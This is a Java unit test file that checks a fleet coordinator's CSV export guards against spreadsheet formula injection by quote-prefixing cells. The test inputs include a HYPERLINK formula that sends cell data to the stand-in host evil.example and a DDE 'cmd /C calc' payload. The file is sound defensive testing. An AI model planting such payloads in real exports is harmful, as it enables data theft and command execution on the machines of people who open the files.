package io.fleetrotate.coordinator.api;

import static io.fleetrotate.coordinator.Http.ADMIN;
import static io.fleetrotate.coordinator.Http.AGENT;
import static org.assertj.core.api.Assertions.assertThat;

import io.fleetrotate.coordinator.Coordinator;
import io.fleetrotate.coordinator.Http;
import io.fleetrotate.coordinator.MutableClock;
import io.fleetrotate.coordinator.TestCoordinators;
import io.fleetrotate.coordinator.Wire;
import io.fleetrotate.proto.Result;
import io.vertx.core.json.JsonArray;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Values an agent sends cannot become spreadsheet formulas in the CSV export (OWASP). */
class CsvExportInjectionTest {
  static final Instant T0 = Instant.parse("2026-11-21T09:00:00Z");

  @TempDir Path dir;
  Coordinator coordinator;
  Http http;

  @BeforeEach
  void start() throws Exception {
    coordinator = Coordinator.start(TestCoordinators.config(dir), new MutableClock(T0));
    http = new Http(coordinator.port());
  }

  @AfterEach
  void stop() {
    coordinator.close();
  }

  @Test
  void cellsStartingWithAFormulaCharacterArePrefixedWithAQuote() {
    JsonArray batch = new JsonArray(Wire.eventsJson(List.of(Wire.event("n1", Result.FAILED, T0))));
    batch
        .getJsonObject(0)
        .put("nodeId", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")
        .put("group", "+SUM(1,2)")
        .put("path", "-2+3")
        .put("codec", "@cmd")
        .put("message", "\tTAB first");
    assertThat(http.post("/api/v1/events", AGENT, batch.encode()).status()).isEqualTo(200);

    Http.Response csv = http.get("/api/v1/rotations/export?format=csv", ADMIN);

    assertThat(csv.status()).isEqualTo(200);
    String row = csv.body().lines().skip(1).findFirst().orElseThrow();
    assertThat(row)
        .contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",")
        .contains(",\"'+SUM(1,2)\",")
        .contains(",'-2+3,")
        .contains(",'@cmd,")
        .endsWith(",'\tTAB first");
    // No cell of the row starts with a formula character.
    for (String cell : row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
      String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
      assertThat(unquoted).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
      assertThat(unquoted).doesNotStartWith("\t").doesNotStartWith("\r");
    }
  }

  @Test
  void largeExportIsStreamedWithEveryRowGuarded() {
    List<io.fleetrotate.proto.RotationEvent> events = new java.util.ArrayList<>();
    for (int i = 0; i < 1_234; i++) {
      events.add(Wire.event("n1", Result.SUCCESS, T0.minusSeconds(i)));
    }
    JsonArray batch = new JsonArray(Wire.eventsJson(events));
    for (int i = 0; i < batch.size(); i++) {
      batch.getJsonObject(i).put("nodeId", "=cmd|' /C calc'!A0");
    }
    assertThat(http.post("/api/v1/events", AGENT, batch.encode()).status()).isEqualTo(200);

    Http.Response csv = http.get("/api/v1/rotations/export?format=csv&limit=5000", ADMIN);

    assertThat(csv.status()).isEqualTo(200);
    assertThat(csv.header("content-length")).as("streamed, not sized up front").isNull();
    List<String> rows = csv.body().lines().skip(1).toList();
    assertThat(rows).hasSize(1_234).allMatch(r -> r.contains(",'=cmd|' /C calc'!A0,"));
  }
}
